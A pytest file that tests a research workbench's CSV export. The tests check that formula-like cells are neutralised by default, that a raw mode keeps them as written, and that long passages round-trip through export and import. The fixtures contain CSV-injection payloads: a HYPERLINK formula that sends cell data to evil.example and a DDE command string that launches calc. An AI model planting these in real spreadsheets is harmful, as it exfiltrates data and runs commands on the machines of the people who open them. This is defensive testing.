"""CSV the workbench writes is safe to open in a spreadsheet and reads back exactly.

Formula cells (``=``, ``+``, ``-``, ``@``, tab, CR at the start) get a leading ``'`` by
default in every CSV-writing command, ``--raw-csv`` writes them as they are, and a
coding whose passage is longer than the ``csv`` module's 131,072-character default
survives export then import into another project.
"""

from __future__ import annotations

import csv
import io

import pytest

from tests.conftest import LEARNING
from workbench.core.csvcell import TRIGGERS, allow_long_cells
from workbench.services.codebook import load_codebook_file
from workbench.services.codings import add_coding, list_codings
from workbench.services.documents import import_file
from workbench.services.project import init_project

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
COMMAND = "+cmd|' /C calc'!A0"
LONG = 300_000


@pytest.fixture
def hostile_project(tmp_path):
    """A project whose titles, memos and a long passage begin like formulas."""
    project = init_project("study", base=tmp_path, coder="alice")
    load_codebook_file(project.uow(), path=LEARNING, actor="alice")
    doc = tmp_path / "long.txt"
    doc.write_text("@risk " + "x" * LONG + "\n", encoding="utf-8")
    import_file(project, path=doc, title="-1+cmd|' /C calc'!A0")
    add_coding(
        project.uow(),
        document="-1+cmd|' /C calc'!A0",
        code="tacit",
        coder="alice",
        start=0,
        end=LONG,
        memo=FORMULA,
    )
    add_coding(
        project.uow(),
        document="-1+cmd|' /C calc'!A0",
        code="push",
        coder="alice",
        start=10,
        end=20,
        memo=COMMAND + "\nsecond line",
    )
    project.close()
    return project.root


def _cells(text: str) -> list[str]:
    allow_long_cells()
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _formula_cells(text: str) -> list[str]:
    return [c for c in _cells(text) if c and c[0] in TRIGGERS and not _number(c)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_codings_export_neutralises_formulas_and_counts_codings_not_lines(
    cli, hostile_project, tmp_path
):
    out = tmp_path / "codings.csv"
    code, _, err = cli("codings", "export", "-p", str(hostile_project), "--out", str(out))
    assert code == 0, err
    assert err.strip() == f"wrote 2 codings to {out}"  # the memo's newline is not a coding
    text = out.read_text(encoding="utf-8")
    assert _formula_cells(text) == []
    assert "'" + FORMULA in _cells(text)


def test_raw_csv_writes_the_cells_as_they_are(cli, hostile_project):
    code, out, err = cli("codings", "export", "-p", str(hostile_project), "--raw-csv")
    assert code == 0, err
    assert FORMULA in _cells(out)
    assert COMMAND + "\nsecond line" in _cells(out)


@pytest.mark.parametrize(
    "command",
    [
        ("codings", "list"),
        ("documents", "list"),
    ],
)
def test_list_commands_neutralise_their_csv_and_take_raw_csv(cli, hostile_project, command):
    code, out, err = cli(*command, "-p", str(hostile_project), "--format", "csv")
    assert code == 0, err
    assert _formula_cells(out) == []
    code, raw, err = cli(*command, "-p", str(hostile_project), "--format", "csv", "--raw-csv")
    assert code == 0, err
    assert _formula_cells(raw)


def test_a_csv_report_neutralises_its_cells(cli, hostile_project, tmp_path):
    out = tmp_path / "segments.csv"
    code, _, err = cli("report", "segments", "-p", str(hostile_project), "--out", str(out))
    assert code == 0, err
    written = [out, *tmp_path.glob("segments-*.csv")]
    assert all(_formula_cells(p.read_text(encoding="utf-8")) == [] for p in written)
    code, _, err = cli(
        "report", "segments", "-p", str(hostile_project), "--out", str(out), "--raw-csv"
    )
    assert code == 0, err
    assert any(_formula_cells(p.read_text(encoding="utf-8")) for p in written)


@pytest.mark.parametrize("raw", [False, True])
def test_a_long_coding_round_trips_through_csv(cli, hostile_project, tmp_path, raw):
    out = tmp_path / "codings.csv"
    flags = ["--raw-csv"] if raw else []
    code, _, err = cli("codings", "export", "-p", str(hostile_project), "--out", str(out), *flags)
    assert code == 0, err
    other = init_project("other", base=tmp_path / "elsewhere", coder="alice")
    load_codebook_file(other.uow(), path=LEARNING, actor="alice")
    import_file(other, path=tmp_path / "long.txt", title="-1+cmd|' /C calc'!A0")
    other.close()
    code, _, err = cli("codings", "import", str(out), "-p", str(other.root))
    assert code == 0, err

    from workbench.store.project import open_project

    def key(c):
        return (c.document, c.start, c.end, c.code, c.coder, c.memo, c.quote)

    a, b = open_project(hostile_project), open_project(other.root)
    try:
        theirs = sorted(map(key, list_codings(b.uow())))
        assert theirs == sorted(map(key, list_codings(a.uow())))
        assert any(len(c[-1] or "") == LONG for c in theirs)
    finally:
        a.close()
        b.close()
